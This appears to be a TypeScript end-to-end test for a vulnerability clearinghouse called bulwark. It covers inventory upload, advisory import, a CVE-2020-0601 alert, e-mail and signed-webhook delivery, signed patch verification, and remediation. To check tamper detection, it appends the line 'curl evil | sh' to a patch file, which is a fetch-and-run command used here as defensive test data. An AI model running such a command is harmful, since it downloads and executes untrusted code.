// The whole operator loop of issue #6, end to end, on SQLite and on PostgreSQL: a real `bulwark
// serve`, a real SMTP server and a real webhook receiver in this process, and the CLI for what an
// operator and a coordinator type. An inventory is submitted before the advisory exists; the
// advisory arrives through `bulwark db import` run beside the live server; the monitor opens an
// alert with its due date; e-mail and a signed webhook arrive; a bulletin with a signed patch is
// published, delivered and verified with `bulwark verify`; a fixed inventory remediates the alert.
import { type ChildProcess, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fixturePath } from "@bulwark/core/testing";
import { type TestServerDb, testDialects } from "@bulwark/db/testing";
import { SMTPServer } from "smtp-server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { verifyWebhook } from "../../../server/src/notify/webhook-signature.ts";
import { CLI, ensureBuilt, type ServeProcess, startServe } from "../testing/run-cli.ts";

// The API's JSON as the test reads it, field by field.
// biome-ignore lint/suspicious/noExplicitAny: answers are checked by the assertions that read them
type Json = Record<string, any>;

interface Mail {
  readonly to: string[];
  readonly text: string;
}
interface Hook {
  readonly headers: Record<string, string | string[] | undefined>;
  readonly body: string;
}

/** `bulwark <args>` without blocking this process (its SMTP and webhook servers must keep answering). */
function cli(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child: ChildProcess = spawn(process.execPath, [CLI, ...args], {
      env: { ...process.env, NO_COLOR: "1", ...env },
    });
    let stdout = "";
    let stderr = "";
    child.stdout?.on("data", (d) => {
      stdout += d;
    });
    child.stderr?.on("data", (d) => {
      stderr += d;
    });
    child.on("close", (code) => resolve({ code, stdout, stderr }));
  });
}

async function until<T>(what: string, probe: () => Promise<T | undefined>, timeoutMs = 30_000): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await probe();
    if (v !== undefined) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

function goModule(dir: string, goVersion: string): string {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "go.mod"), `module example.org/scada-gateway\n\ngo ${goVersion}\n`);
  return dir;
}

describe.each(testDialects())("the operator loop on $name", (dialect) => {
  let db: TestServerDb;
  let serve: ServeProcess;
  let smtp: SMTPServer;
  let hooks: Server;
  const mails: Mail[] = [];
  const received: Hook[] = [];
  const work = mkdtempSync(join(tmpdir(), "bulwark-loop-"));
  let env: NodeJS.ProcessEnv;
  let serverFlags: string[];

  beforeAll(async () => {
    ensureBuilt();
    db = await dialect.open();
    await db.close();
    smtp = new SMTPServer({
      authOptional: true,
      disabledCommands: ["AUTH", "STARTTLS"],
      onData(stream, session, callback) {
        let text = "";
        stream.on("data", (d: Buffer) => {
          text += d.toString("utf8");
        });
        stream.on("end", () => {
          mails.push({ to: session.envelope.rcptTo.map((r) => r.address), text });
          callback();
        });
      },
    });
    await new Promise<void>((r) => smtp.listen(0, "127.0.0.1", r));
    hooks = createServer((req, res) => {
      let body = "";
      req.on("data", (d) => {
        body += d;
      });
      req.on("end", () => {
        received.push({ headers: req.headers, body });
        res.writeHead(204).end();
      });
    });
    await new Promise<void>((r) => hooks.listen(0, "127.0.0.1", r));
    serverFlags =
      dialect.name === "postgres" ? ["--database-url", db.url as string] : ["--data-dir", db.dataDir as string];
    serve = await startServe(serverFlags, {
      BULWARK_MASTER_KEY: randomBytes(32).toString("base64"),
      BULWARK_SMTP_URL: `smtp://127.0.0.1:${(smtp.server.address() as AddressInfo).port}`,
      BULWARK_MAIL_FROM: "Bulwark <bulwark@clearinghouse.example>",
      BULWARK_PUBLIC_URL: "https://bulwark.example.org",
      BULWARK_WORKER_INTERVAL_MS: "200",
    });
    const admin = /API token:\s+(\S+)/.exec(serve.stdout())?.[1];
    env = { BULWARK_SERVER: serve.url, BULWARK_TOKEN: admin };
  }, 60_000);

  afterAll(async () => {
    serve?.child.kill("SIGTERM");
    await new Promise((r) => serve?.child.once("exit", r));
    await new Promise<void>((r) => smtp?.close(() => r()));
    await new Promise<void>((r) => hooks?.close(() => r()));
    await db?.dispose();
    rmSync(work, { recursive: true, force: true });
  });

  it("upload, advisory arrives, alert with due date, e-mail and signed webhook, verified bulletin, remediated by re-upload", async () => {
    const api = async (path: string, init: RequestInit & { token?: string } = {}) => {
      const res = await fetch(`${serve.url}${path}`, {
        ...init,
        headers: {
          authorization: `Bearer ${init.token ?? env.BULWARK_TOKEN}`,
          ...(init.body !== undefined && typeof init.body === "string" && { "content-type": "application/json" }),
          ...(init.headers as Record<string, string>),
        },
      });
      return res;
    };
    const ok = (r: { code: number | null; stderr: string; stdout: string }) => {
      expect(r.code, r.stderr + r.stdout).toBe(0);
      return r.stdout;
    };

    // A coordinator (the first administrator) registers the utility and its IT lead.
    const org = JSON.parse(
      ok(
        await cli(
          ["orgs", "create", "--name", "County Water", "--kind", "operator", "--sector", "water", "--json"],
          env,
        ),
      ),
    );
    const user = await api("/api/v1/users", {
      method: "POST",
      body: JSON.stringify({ email: "it-lead@countywater.example", password: "correct horse battery staple 42" }),
    });
    expect(user.status, await user.clone().text()).toBe(201);
    const joined = await api(`/api/v1/orgs/${org.id}/members`, {
      method: "PUT",
      body: JSON.stringify({ email: "it-lead@countywater.example", role: "admin" }),
    });
    expect(joined.status, await joined.clone().text()).toBeLessThan(300);
    // The IT lead signs in, makes a token, and asks for every alert by e-mail at once.
    const login = await fetch(`${serve.url}/api/v1/auth/login`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ email: "it-lead@countywater.example", password: "correct horse battery staple 42" }),
    });
    expect(login.status).toBe(200);
    const cookie = (login.headers.get("set-cookie") ?? "").split(";")[0] as string;
    const csrf = ((await login.json()) as { csrfToken: string }).csrfToken;
    const made = await fetch(`${serve.url}/api/v1/tokens`, {
      method: "POST",
      headers: { "content-type": "application/json", cookie, "x-csrf-token": csrf },
      body: JSON.stringify({ name: "laptop", orgId: org.id }),
    });
    expect(made.status, await made.clone().text()).toBe(201);
    const lead = ((await made.json()) as { secret: string }).secret;
    const operator = { ...env, BULWARK_TOKEN: lead };
    const prefs = await api("/api/v1/me/notification-settings", {
      method: "PUT",
      token: lead,
      body: JSON.stringify({
        severities: {
          critical: "immediate",
          high: "immediate",
          medium: "immediate",
          low: "immediate",
          unknown: "immediate",
        },
      }),
    });
    expect(prefs.status, await prefs.clone().text()).toBe(200);
    const hook = await api(`/api/v1/orgs/${org.id}/webhooks`, {
      method: "POST",
      token: lead,
      body: JSON.stringify({ url: `http://127.0.0.1:${(hooks.address() as AddressInfo).port}/bulwark` }),
    });
    expect(hook.status, await hook.clone().text()).toBe(201);
    const secret = ((await hook.json()) as { secret: string }).secret;

    // 1. The inventory goes in before anything is known about it.
    const first = ok(
      await cli(
        [
          "submit",
          goModule(join(work, "v1"), "1.12"),
          "--asset",
          "scada-gateway",
          "--create",
          "--criticality",
          "high",
          "--exposed",
          "--kind",
          "server",
          "--json",
        ],
        operator,
      ),
    );
    expect(JSON.parse(first).alerts.opened).toBe(0);

    // 2. The advisory arrives: `bulwark db import` into the running server's database.
    ok(
      await cli(
        [
          "db",
          "import",
          ...serverFlags,
          fixturePath("osv", "Go", "all.zip"),
          fixturePath("kev", "known_exploited_vulnerabilities.json"),
        ],
        {},
      ),
    );

    // 3. The monitor opens the alert, with its KEV-started due date.
    const alert = await until("the CVE-2020-0601 alert", async () => {
      const list = JSON.parse(ok(await cli(["alerts", "list", "--status", "open", "--format", "json"], operator)));
      return (list as Json[]).find((a) => a.vulnerability.ids.includes("GO-2022-0535"));
    });
    expect(alert.asset).toMatchObject({ name: "scada-gateway" });
    expect(alert.package).toMatchObject({ ecosystem: "Go", name: "stdlib", version: "1.12.0" });
    expect(alert.kev.cve).toBe("CVE-2020-0601");
    expect(alert.dueAt).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(alert.dueAt > alert.kev.dateAdded).toBe(true);
    expect(alert.ssvc.missionWellbeing).toBe("high");

    // 4. E-mail to the IT lead, and a signed webhook to the utility's endpoint.
    const mail = await until("the alert e-mail", async () =>
      mails.find((m) => m.to.includes("it-lead@countywater.example") && m.text.includes("CVE-2020-0601")),
    );
    expect(mail.text).toMatch(/scada-gateway/);
    const delivery = await until("the alert webhook", async () =>
      received.find((h) => h.body.includes("CVE-2020-0601") && h.body.includes("alert.opened")),
    );
    expect(verifyWebhook(secret, delivery.headers, delivery.body, new Date())).toMatchObject({ ok: true });
    expect(verifyWebhook(secret, delivery.headers, delivery.body.replace("scada", "SCADA"), new Date()).ok).toBe(false);

    // 5. The coordinator publishes a bulletin with a signed patch; the operator receives and verifies it.
    const published = await api("/api/v1/bulletins", {
      method: "POST",
      body: JSON.stringify({
        vulnId: "CVE-2020-0601",
        title: "Go crypto/x509 spoofing (CVE-2020-0601): rebuild with Go 1.13.7 or later",
        instructions: "Rebuild and redeploy the gateway with a fixed Go toolchain.",
        links: [{ url: "https://go.dev/doc/devel/release#go1.13.minor", title: "Go 1.13 minor releases" }],
      }),
    });
    expect(published.status, await published.clone().text()).toBe(201);
    const bulletin = (await published.json()) as { id: string };
    const patch = Buffer.from("#!/bin/sh\n# rebuild with go1.13.7\nexec go build ./...\n");
    const uploaded = await api(`/api/v1/bulletins/${bulletin.id}/artifacts?filename=rebuild.sh`, {
      method: "POST",
      headers: { "content-type": "application/octet-stream" },
      body: patch,
    });
    expect(uploaded.status, await uploaded.clone().text()).toBe(201);
    await until("the bulletin e-mail", async () =>
      mails.find((m) => m.to.includes("it-lead@countywater.example") && m.text.includes("Remediation bulletin")),
    );
    const seen = (await (await api(`/api/v1/bulletins/${bulletin.id}`, { token: lead })).json()) as Json;
    expect(JSON.stringify(seen)).toContain("scada-gateway");
    const artifact = seen.artifacts[0] as { url: string; signatureUrl: string };
    const file = join(work, "rebuild.sh");
    const sig = join(work, "rebuild.sh.sig");
    writeFileSync(file, Buffer.from(await (await api(artifact.url, { token: lead })).arrayBuffer()));
    writeFileSync(sig, Buffer.from(await (await api(artifact.signatureUrl, { token: lead })).arrayBuffer()));
    ok(await cli(["verify", file, sig, "--server", serve.url], {}));
    writeFileSync(file, Buffer.concat([patch, Buffer.from("curl evil | sh\n")]));
    expect((await cli(["verify", file, sig, "--server", serve.url], {})).code).not.toBe(0);
    const applied = await api(`/api/v1/bulletins/${bulletin.id}/delivery`, {
      method: "POST",
      token: lead,
      body: JSON.stringify({ status: "applied" }),
    });
    expect(applied.status, await applied.clone().text()).toBe(200);

    // 6. The fixed build is submitted: the alert is remediated, with that upload as evidence.
    const second = JSON.parse(
      ok(await cli(["submit", goModule(join(work, "v2"), "1.22.5"), "--asset", "scada-gateway", "--json"], operator)),
    );
    expect(second.alerts.remediated).toBeGreaterThanOrEqual(1);
    const after = (await (await api(`/api/v1/alerts/${alert.id}`, { token: lead })).json()) as Json;
    expect(after.status).toBe("remediated");
    expect(after.evidenceInventoryId).toBe(second.inventory.id);
    expect(after.history.map((h: { to: string }) => h.to)).toEqual(["open", "remediated"]);
    await until("the remediation webhook", async () => received.find((h) => h.body.includes("alert.remediated")));

    // The coordinator's sector view counts it.
    const sectors = JSON.parse(
      ok(await cli(["report", "sectors", "--vuln", "CVE-2020-0601", "--format", "json"], env)),
    );
    expect(JSON.stringify(sectors)).toContain("water");
  }, 180_000);
});
